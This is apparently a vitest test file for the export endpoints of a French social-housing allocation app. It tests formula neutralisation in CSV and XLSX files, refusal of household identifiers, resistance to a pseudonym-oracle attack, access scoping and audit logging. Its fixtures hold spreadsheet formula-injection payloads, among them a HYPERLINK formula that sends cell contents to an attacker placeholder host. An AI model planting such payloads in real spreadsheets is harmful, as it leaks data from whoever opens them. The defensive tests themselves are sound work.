import { createHmac } from 'node:crypto';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ListeAttributions, Tableau, TravailExport } from '../src/contract.ts';
import type { Client, TestApp } from './helpers.ts';
import { MINI, jsonBody, login, openProductionApp, openTestApp, scalar } from './helpers.ts';

const tableau: Tableau = {
  titre: 'Répartition par bailleur — 2024',
  colonnes: [
    { cle: 'nom', libelle: 'Bailleur', type: 'texte' },
    { cle: 'n', libelle: 'Baux', type: 'entier' },
    { cle: 'taux', libelle: 'Taux', type: 'taux' },
    { cle: 'ok', libelle: 'Atteint', type: 'booleen' },
  ],
  lignes: [
    { nom: 'Essonne Habitat; OPH', n: 12, taux: 0.25, ok: true },
    { nom: 'Les Résidences', n: 3, taux: null, ok: null },
  ],
};

/** Cells a spreadsheet would run as formulas, and negative numbers that must stay numbers. */
const piege: Tableau = {
  titre: 'Écarts',
  colonnes: [
    { cle: 'nom', libelle: 'Périmètre', type: 'texte' },
    { cle: 'ecart', libelle: 'Écart', type: 'taux' },
    { cle: 'solde', libelle: 'Solde', type: 'entier' },
  ],
  lignes: [
    { nom: '=HYPERLINK("http://attaquant.example/?x="&A1,"Cliquez")', ecart: -0.05, solde: -3 },
    { nom: '+33 1 23', ecart: 0.1, solde: 4 },
    { nom: '-2+3', ecart: null, solde: 0 },
    { nom: '@SUM(A1:A2)', ecart: -1, solde: -12 },
    { nom: '\t=1+1', ecart: 0, solde: 1 },
    { nom: 'Évry = Courcouronnes', ecart: 0, solde: 1 },
  ],
};

const csvText = async (response: Response): Promise<string> => {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return new TextDecoder().decode(bytes.slice(3));
};

/** Plain parsing of the CSV we write: `;` separated, fields quoted when they hold `;`, `"` or a line break. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') {
      row.push(field);
      field = '';
    }
    else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}

async function workbook(response: Response): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(await response.arrayBuffer());
  return wb.worksheets[0] as ExcelJS.Worksheet;
}

describe('export of an aggregate table on screen', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await openTestApp({ dataset: null, securite: { lignesMaxTableau: 10 } });
  });
  afterAll(() => t.close());

  it('writes a CSV a French spreadsheet opens: BOM, semicolons, decimal comma, quoted cells', async () => {
    const response = await t.request('/api/export?format=csv', jsonBody('POST', tableau));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="repartition-par-bailleur-2024.csv"');
    expect(await csvText(response)).toBe('Bailleur;Baux;Taux;Atteint\r\n"Essonne Habitat; OPH";12;25,0%;oui\r\nLes Résidences;3;;\r\n');
  });

  it('writes an XLSX with the same rows, rates as percentages', async () => {
    const response = await t.request('/api/export?format=xlsx', jsonBody('POST', tableau));
    expect(response.status).toBe(200);
    const sheet = await workbook(response);
    expect(sheet.getRow(1).values).toEqual([undefined, 'Bailleur', 'Baux', 'Taux', 'Atteint']);
    expect(sheet.getRow(2).values).toEqual([undefined, 'Essonne Habitat; OPH', 12, 0.25, 'oui']);
    expect(sheet.getCell('C2').numFmt).toBe('0.0%');
  });

  it('neutralises formulas in CSV (apostrophe) and keeps negative numbers and percentages as numbers', async () => {
    const rows = parseCsv(await csvText(await t.request('/api/export?format=csv', jsonBody('POST', piege))));
    expect(rows).toEqual([
      ['Périmètre', 'Écart', 'Solde'],
      ['\'=HYPERLINK("http://attaquant.example/?x="&A1,"Cliquez")', '-5,0%', '-3'],
      ["'+33 1 23", '10,0%', '4'],
      ["'-2+3", '', '0'],
      ["'@SUM(A1:A2)", '-100,0%', '-12'],
      ["'\t=1+1", '0,0%', '1'],
      ['Évry = Courcouronnes', '0,0%', '1'],
    ]);
  });

  it('writes formula-like text as text cells in XLSX, never as formulas, and negative numbers as numbers', async () => {
    const response = await t.request('/api/export?format=xlsx', jsonBody('POST', piege));
    const bytes = Buffer.from(await response.clone().arrayBuffer());
    const sheet = await workbook(response);
    piege.lignes.forEach((ligne, i) => {
      const nom = sheet.getCell(i + 2, 1);
      expect([nom.type, nom.value, nom.formula]).toEqual([ExcelJS.ValueType.String, ligne['nom'], undefined]);
      const solde = sheet.getCell(i + 2, 3);
      expect([solde.type, solde.value]).toEqual([ExcelJS.ValueType.Number, ligne['solde']]);
    });
    expect(sheet.getCell('B2').value).toBe(-0.05);
    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.Number);
    // Plain reading of the archive: the sheet's XML holds no formula element at all.
    const { default: JSZip } = await import('jszip');
    const xml = await (await JSZip.loadAsync(bytes)).file('xl/worksheets/sheet1.xml')?.async('string');
    expect(xml).toBeDefined();
    expect(xml).not.toMatch(/<f[ >]/);
  });

  it('refuses household-level tables whatever their column names, and never answers a pseudonym', async () => {
    const nur = '0912023000001';
    const tables: Tableau[] = [
      { titre: 'a', colonnes: [{ cle: 'nur', libelle: 'x', type: 'texte' }], lignes: [{ nur: 'abc' }] },
      { titre: 'b', colonnes: [{ cle: 'NUR', libelle: 'x', type: 'texte' }], lignes: [{ NUR: 'abc' }] },
      { titre: 'c', colonnes: [{ cle: 'Nur', libelle: 'x', type: 'texte' }], lignes: [{ Nur: 'abc' }] },
      { titre: 'd', colonnes: [{ cle: 'x', libelle: 'Numéro unique', type: 'texte' }], lignes: [{ x: 'abc' }] },
      { titre: 'e', colonnes: [{ cle: 'x', libelle: 'N° UNIQUE', type: 'texte' }], lignes: [{ x: 'abc' }] },
      { titre: 'f', colonnes: [{ cle: 'x', libelle: 'Pseudonyme', type: 'texte' }], lignes: [{ x: 'abc' }] },
      // Innocent names, household data inside.
      { titre: 'g', colonnes: [{ cle: 'commune', libelle: 'Commune', type: 'texte' }], lignes: [{ commune: 'Évry' }, { commune: nur }] },
      { titre: 'h', colonnes: [{ cle: 'c', libelle: 'Code', type: 'texte' }], lignes: [{ c: ` ${nur}A ` }] },
      { titre: 'i', colonnes: [{ cle: 'c', libelle: 'Code', type: 'texte' }], lignes: [{ c: 'ps-0123456789abcdef0123' }] },
      { titre: 'j', colonnes: [{ cle: 'c', libelle: 'Code', type: 'texte' }], lignes: [{ c: ['91228', '02B2301000042'] }] },
    ];
    for (const table of tables) {
      for (const format of ['csv', 'xlsx']) {
        const response = await t.request(`/api/export?format=${format}`, jsonBody('POST', table));
        const body = await response.text();
        expect([table.titre, format, response.status]).toEqual([table.titre, format, 422]);
        expect(JSON.parse(body)).toMatchObject({ erreur: 'donnees_menages', message: expect.stringContaining('données de ménages') });
        expect(body).not.toMatch(/PS-[0-9a-f]{20}/i);
      }
    }
  });

  it('keeps codes and counts that only look like numbers', async () => {
    const codes: Tableau = {
      titre: 'Codes',
      colonnes: [
        { cle: 'perimetre_id', libelle: 'Code du périmètre', type: 'texte' },
        { cle: 'denominateur', libelle: 'Dénominateur', type: 'entier' },
      ],
      lignes: [
        { perimetre_id: '91228', denominateur: 123456789012345 },
        { perimetre_id: 'QN09123M', denominateur: 1 },
        { perimetre_id: '200059228', denominateur: 2 },
      ],
    };
    expect((await t.request('/api/export?format=csv', jsonBody('POST', codes))).status).toBe(200);
  });

  it('refuses a table above the row cap of the settings, an unknown format and a malformed table', async () => {
    const big = { ...tableau, lignes: Array.from({ length: 11 }, (_, i) => ({ nom: `B${i}`, n: i, taux: 0, ok: true })) };
    const response = await t.request('/api/export?format=csv', jsonBody('POST', big));
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({ erreur: 'export_trop_grand', message: expect.stringContaining('10 au plus') });
    expect((await t.request('/api/export?format=csv', jsonBody('POST', { ...big, lignes: big.lignes.slice(0, 10) }))).status).toBe(200);
    // The red team's 500 000-row table is refused by its size, before it is read.
    const huge = { ...tableau, lignes: Array.from({ length: 200_000 }, (_, i) => ({ nom: `Bailleur numéro ${i}`, n: i, taux: 0.5, ok: true })) };
    const refused = await t.request('/api/export?format=xlsx', jsonBody('POST', huge));
    expect(refused.status).toBe(413);
    expect(await refused.json()).toMatchObject({ erreur: 'trop_volumineux' });
    expect((await t.request('/api/export?format=pdf', jsonBody('POST', tableau))).status).toBe(400);
    expect((await t.request('/api/export?format=csv', jsonBody('POST', { titre: 'x', colonnes: [], lignes: [] }))).status).toBe(422);
  });
});

/** The ids and NUR-or-pseudonym of a CSV of allocations (columns « Attribution » and « Numéro unique (NUR) »). */
function allocationsOfCsv(text: string): { id: string; nur: string }[] {
  const [header, ...rows] = parseCsv(text);
  expect(header?.slice(0, 2)).toEqual(['Attribution', 'Numéro unique (NUR)']);
  return rows.map((r) => ({ id: r[0] as string, nur: r[1] as string }));
}

const exportBody = (body: Record<string, unknown>) => jsonBody('POST', { ressource: 'attributions', format: 'csv', indicateur: 'prioritaires', periode: '2024', ...body });

describe('household exports by query: no pseudonym oracle, scoped, logged (production mode)', () => {
  let t: TestApp;
  const clients = new Map<string, Client>();
  let cle: string;
  const client = (email: string) => clients.get(email) as Client;
  const exportsLogged = (email: string) => scalar<number>(t.store, `SELECT count(*)::INTEGER AS v FROM journal WHERE action = 'export_menages' AND utilisateur = '${email}'`);

  beforeAll(async () => {
    t = await openProductionApp();
    for (const email of ['admin@mixite.test', 'b1@mixite.test', 'evry@mixite.test', 'corbeil@mixite.test', 'lecteur@mixite.test']) clients.set(email, await login(t.mixite.app, email));
    // The deployment's key, read from the store (created on the first list).
    await client('evry@mixite.test').request('/api/objectifs/prioritaires/attributions?periode=2024');
    cle = await scalar<string>(t.store, `SELECT valeur AS v FROM secrets WHERE cle = 'pseudonymisation_nur'`);
  }, 60_000);
  afterAll(() => t?.close());

  it('the oracle attack: NURs sent by a commune never come back as pseudonyms, by any export route', async () => {
    const evry = client('evry@mixite.test');
    const nurs = await t.store.all<{ nur: string }>(`SELECT nur FROM demandes ORDER BY nur`);
    expect(nurs.length).toBeGreaterThan(2);
    // The pseudonyms the attacker wants, computed here with the key (HMAC-SHA-256, 80 bits).
    const wanted = nurs.map((r) => `PS-${createHmac('sha256', cle).update(r.nur).digest('hex').slice(0, 20)}`);
    const answers: string[] = [];
    for (const colonnes of [
      [{ cle: 'nur', libelle: 'NUR', type: 'texte' }],
      [{ cle: 'NUR', libelle: 'NUR', type: 'texte' }],
      [{ cle: 'menage', libelle: 'Ménage', type: 'texte' }],
    ] as const) {
      const cle0 = colonnes[0].cle;
      for (const format of ['csv', 'xlsx']) {
        const response = await evry.request(`/api/export?format=${format}`, jsonBody('POST', { titre: 'Attributions', colonnes, lignes: nurs.map((r) => ({ [cle0]: r.nur })) }));
        expect(response.status).toBe(422);
        answers.push(await response.text());
      }
    }
    // The query route takes no rows, and a NUR given as a perimeter filters nothing in.
    const withRows = await evry.request('/api/exports', exportBody({ lignes: nurs, nur: nurs[0]?.nur }));
    expect(withRows.status).toBe(422);
    answers.push(await withRows.text());
    for (const nur of nurs) {
      const response = await evry.request('/api/exports', exportBody({ perimetre_type: 'commune', perimetre_id: nur.nur }));
      expect(response.status).toBe(200);
      const text = await csvText(response);
      expect(allocationsOfCsv(text)).toEqual([]);
      answers.push(text);
    }
    for (const answer of answers) for (const pseudonyme of wanted) expect(answer).not.toContain(pseudonyme);
  });

  it('exports the list behind an indicator row as the screen shows it: same rows, the commune’s NUR pseudonymised, logged', async () => {
    const evry = client('evry@mixite.test');
    const before = await exportsLogged('evry@mixite.test');
    const screen = (await (await evry.request('/api/objectifs/prioritaires/attributions?periode=2024')).json()) as ListeAttributions;
    const response = await evry.request('/api/exports', exportBody({}));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    const rows = allocationsOfCsv(await csvText(response));
    // The one allocation of Évry in the mini territory, its household's NUR pseudonymised with the key.
    const nur = await scalar<string>(t.store, `SELECT nur AS v FROM attributions WHERE id = 'A1'`);
    expect(rows).toEqual([{ id: 'A1', nur: `PS-${createHmac('sha256', cle).update(nur).digest('hex').slice(0, 20)}` }]);
    expect(rows.map((r) => r.id)).toEqual(screen.lignes.map((l) => l.id));
    expect(await exportsLogged('evry@mixite.test')).toBe(before + 1);
    const [entry] = await t.store.all<{ details: string }>(`SELECT details::VARCHAR AS details FROM journal WHERE action = 'export_menages' AND utilisateur = 'evry@mixite.test' ORDER BY id DESC LIMIT 1`);
    expect(JSON.parse(entry?.details ?? '{}')).toMatchObject({ format: 'csv', lignes: 1, indicateur: 'prioritaires', periode: '2024', nur_pseudonymise: true });
  });

  it('narrows a bailleur’s export to its dwellings, NUR in clear, and refuses the lecteur', async () => {
    const response = await client('b1@mixite.test').request('/api/exports', exportBody({ indicateur: 'qpv_hors_q1', format: 'xlsx' }));
    expect(response.status).toBe(200);
    const sheet = await workbook(response);
    const ids: string[] = [];
    sheet.eachRow((row, n) => {
      if (n > 1) ids.push(String(row.getCell(1).value));
    });
    const allowed = new Set(
      (await t.store.all<{ id: string }>(`SELECT a.id FROM attributions a LEFT JOIN logements l ON l.id = a.logement_id WHERE coalesce(a.bailleur_id, l.bailleur_id) = 'B1'`)).map((r) => r.id),
    );
    for (const id of ids) expect(allowed.has(id)).toBe(true);
    const lecteur = await client('lecteur@mixite.test').request('/api/exports', exportBody({}));
    expect(lecteur.status).toBe(403);
    expect(await exportsLogged('lecteur@mixite.test')).toBe(0);
  });

  it('refuses malformed queries with a 4xx and a French message', async () => {
    const admin = client('admin@mixite.test');
    expect((await admin.request('/api/exports', exportBody({ indicateur: 'inconnu' }))).status).toBe(404);
    expect((await admin.request('/api/exports', exportBody({ periode: '2024-13' }))).status).toBe(400);
    expect((await admin.request('/api/exports', exportBody({ perimetre_type: 'menage' }))).status).toBe(400);
    expect((await admin.request('/api/exports', exportBody({ format: 'pdf' }))).status).toBe(422);
    expect((await admin.request('/api/exports/inconnu')).status).toBe(404);
    // An id far longer than any job id is malformed, not unknown (issue 10: ids parsed strictly before any lookup).
    const tropLong = await admin.request(`/api/exports/${'x'.repeat(5000)}/fichier`);
    expect(tropLong.status).toBe(400);
    expect(((await tropLong.json()) as { message: string }).message).toMatch(/[éèà]|identifiant|invalide/i);
  });
});

describe('heavy household exports run in the background, capped', () => {
  let t: TestApp;
  let dossier: string;
  const NOM_PIEGE = '=HYPERLINK("http://attaquant.example","Essonne")';

  beforeAll(async () => {
    // The mini territory with a bailleur's name that a spreadsheet would run.
    dossier = mkdtempSync(join(tmpdir(), 'mixite-export-test-'));
    cpSync(MINI, dossier, { recursive: true });
    const bailleurs = readFileSync(join(dossier, 'bailleurs.csv'), 'utf8').replace('B2;Les Résidences;', `B2;"${NOM_PIEGE.replaceAll('"', '""')}";`);
    writeFileSync(join(dossier, 'bailleurs.csv'), bailleurs);
    // Every list goes to the background; at most 1 row per export.
    t = await openProductionApp({ dataset: dossier, securite: { lignesExportDirect: 0, lignesMaxExport: 1 } });
  }, 60_000);
  afterAll(() => {
    t?.close();
    rmSync(dossier, { recursive: true, force: true });
  });

  async function finished(c: Client, travail: TravailExport): Promise<TravailExport> {
    let etat = travail;
    for (let i = 0; i < 200 && (etat.etat === 'en_attente' || etat.etat === 'en_cours'); i++) {
      await new Promise((r) => setTimeout(r, 10));
      etat = (await (await c.request(`/api/exports/${travail.id}`)).json()) as TravailExport;
    }
    return etat;
  }

  it('starts a job, gives its progress, sends the file once to its owner only, neutralised', async () => {
    const admin = await login(t.mixite.app, 'admin@mixite.test');
    const corbeil = await login(t.mixite.app, 'corbeil@mixite.test');
    const start = await corbeil.request('/api/exports', exportBody({}));
    expect(start.status).toBe(202);
    const travail = (await start.json()) as TravailExport;
    expect(start.headers.get('location')).toBe(`/api/exports/${travail.id}`);
    expect(travail).toMatchObject({ format: 'csv', lignes_total: 1 });
    expect(['en_attente', 'en_cours', 'pret']).toContain(travail.etat);
    // Another account cannot see nor take it.
    expect((await admin.request(`/api/exports/${travail.id}`)).status).toBe(404);
    const fin = await finished(corbeil, travail);
    expect(fin).toMatchObject({ etat: 'pret', lignes_ecrites: 1, lignes_total: 1, fichier: `/api/exports/${travail.id}/fichier` });
    expect((await admin.request(fin.fichier as string)).status).toBe(404);
    const file = await corbeil.request(fin.fichier as string);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="attributions-.*\.csv"$/);
    const [header, row] = parseCsv(await csvText(file));
    expect(row?.[0]).toBe('A2');
    expect(row?.[1]).toMatch(/^PS-[0-9a-f]{20}$/);
    expect(row?.[header?.indexOf('Bailleur') ?? -1]).toBe(`'${NOM_PIEGE}`);
    // Sent once: the file is gone from the server.
    expect((await corbeil.request(fin.fichier as string)).status).toBe(404);
    expect(await scalar<number>(t.store, `SELECT count(*)::INTEGER AS v FROM journal WHERE action = 'export_menages' AND utilisateur = 'corbeil@mixite.test'`)).toBe(1);
  });

  it('writes the job’s XLSX with the formula-like name as text', async () => {
    const corbeil = await login(t.mixite.app, 'corbeil@mixite.test');
    const travail = (await (await corbeil.request('/api/exports', exportBody({ format: 'xlsx' }))).json()) as TravailExport;
    const fin = await finished(corbeil, travail);
    const sheet = await workbook(await corbeil.request(fin.fichier as string));
    const colonne = (sheet.getRow(1).values as unknown[]).indexOf('Bailleur');
    const cell = sheet.getCell(2, colonne);
    expect([cell.type, cell.value, cell.formula]).toEqual([ExcelJS.ValueType.String, NOM_PIEGE, undefined]);
  });

  it('refuses a list above the cap, telling how to narrow it, without logging an export', async () => {
    const admin = await login(t.mixite.app, 'admin@mixite.test');
    const before = await scalar<number>(t.store, `SELECT count(*)::INTEGER AS v FROM journal WHERE action = 'export_menages'`);
    const lists = await Promise.all(
      ['hors_qpv_q1', 'qpv_hors_q1', 'prioritaires', 'mutations'].map(async (indicateur) => {
        const screen = (await (await admin.request(`/api/objectifs/${indicateur}/attributions?periode=2024`)).json()) as ListeAttributions;
        return { indicateur, total: screen.total };
      }),
    );
    const big = lists.find((l) => l.total > 1);
    expect(big).toBeDefined();
    const response = await admin.request('/api/exports', exportBody({ indicateur: big?.indicateur }));
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({ erreur: 'export_trop_grand', message: expect.stringContaining('1 au plus') });
    expect(await scalar<number>(t.store, `SELECT count(*)::INTEGER AS v FROM journal WHERE action = 'export_menages'`)).toBe(before);
  });
});
